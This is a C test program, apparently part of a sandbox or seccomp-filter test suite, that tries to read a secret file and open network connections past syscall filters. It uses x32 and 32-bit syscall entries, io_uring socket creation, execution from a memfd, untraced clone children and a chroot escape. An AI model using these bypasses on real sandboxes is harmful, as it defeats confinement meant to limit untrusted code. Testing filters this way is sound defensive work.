// Network, new processes and files by the entries that filters forget: 32 bits, x32, io_uring, memory files, untraced children.
#include "attack.h"
#include <linux/io_uring.h>
#include <sched.h>

static const char *secret;

static struct sockaddr_in *address(void) {
  struct sockaddr_in *at = low(4096);
  *at = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = htons(31337)};
  return at;
}
static void read_secret(const char *how) {
  char text[256];
  int fd = open(secret, O_RDONLY);
  if (fd < 0) fd = syscall(SYS_open | X32, secret, O_RDONLY);
  char *name = low(4096);
  strcpy(name, secret);
  if (fd < 0) fd = call32(5, (long)name, O_RDONLY, 0, 0);
  if (fd < 0) return;
  ssize_t size = read(fd, text, sizeof text - 1);
  if (size <= 0) return;
  text[size] = 0;
  gained(how), say(text);
}
static void meet(void) {
  struct sockaddr_in *at = address();
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) fd = syscall(SYS_socket | X32, AF_INET, SOCK_STREAM, 0);
  if (fd < 0) fd = call32(359, AF_INET, SOCK_STREAM, 0, 0);
  unsigned *arguments = low(4096);
  arguments[0] = AF_INET, arguments[1] = SOCK_STREAM, arguments[2] = 0;
  if (fd < 0) fd = call32(102, 1, (long)arguments, 0, 0);
  if (fd < 0) return;
  connect(fd, (void *)at, sizeof *at);
  call32(362, fd, (long)at, sizeof *at, 0);
}
/* IORING_OP_SOCKET needs no socket(2). */
static void ring(void) {
  struct io_uring_params params = {0};
  int fd = syscall(SYS_io_uring_setup, 4, &params);
  if (fd < 0) return;
  say("has: io_uring\n");
  char *rings = mmap(0, params.sq_off.array + 4 * params.sq_entries + 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
  char *done = mmap(0, params.cq_off.cqes + 16 * params.cq_entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
  struct io_uring_sqe *entries = mmap(0, params.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
  if (rings == MAP_FAILED || done == MAP_FAILED || entries == MAP_FAILED) return;
  unsigned *tail = (void *)(rings + params.sq_off.tail), *array = (void *)(rings + params.sq_off.array), *head = (void *)(done + params.cq_off.head);
  struct io_uring_cqe *results = (void *)(done + params.cq_off.cqes);
  memset(entries, 0, sizeof *entries);
  entries[0].opcode = 45 /* IORING_OP_SOCKET */, entries[0].fd = AF_INET, entries[0].off = SOCK_STREAM;
  array[0] = 0, ++*tail;
  if (syscall(SYS_io_uring_enter, fd, 1, 1, 1, 0, 0) < 0 || results[0].res < 0) return;
  int made = results[0].res;
  ++*head;
  memset(entries, 0, sizeof *entries);
  entries[0].opcode = 16 /* IORING_OP_CONNECT */, entries[0].fd = made, entries[0].addr = (unsigned long)address(), entries[0].off = sizeof(struct sockaddr_in);
  array[1] = 0, ++*tail;
  syscall(SYS_io_uring_enter, fd, 1, 1, 1, 0, 0);
}
/* A program that lies in no file system. */
static void from_memory(char **argv) {
  int from = open("/proc/self/exe", O_RDONLY), to = syscall(SYS_memfd_create, "m", 0);
  if (from < 0) from = open(argv[0], O_RDONLY);
  char bytes[65536];
  for (ssize_t size; from >= 0 && to >= 0 && (size = read(from, bytes, sizeof bytes)) > 0;) if (write(to, bytes, size) < 0) return;
  char *again[] = {argv[0], argv[1], "again", 0}, *none[] = {0};
  if (fork() == 0) {
    syscall(SYS_execveat, to, "", again, none, AT_EMPTY_PATH);
    _exit(0);
  }
}
static void untraced(void) {
  long id = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
  if (id == 0) read_secret("a file by an untraced child"), meet(), _exit(0);
}
static void out_of_root(void) {
  int fd = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("out", 0755);
  if (chroot("out") == 0 && fchdir(fd) == 0) {
    for (int up = 0; up < 64; up++) if (chdir("..")) break;
    if (chroot(".") == 0) read_secret("a file after chroot");
  }
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) read_secret("a file after unshare");
}

int main(int argc, char **argv) {
  secret = argc > 1 ? argv[1] : "/nothing";
  if (argc == 2) say("ran\n");
  read_secret(argc == 2 ? "a file" : "a file by a program in memory");
  meet(), ring(), untraced();
  if (argc == 2) from_memory(argv);
  while (wait(0) > 0);
  out_of_root();
  return 0;
}
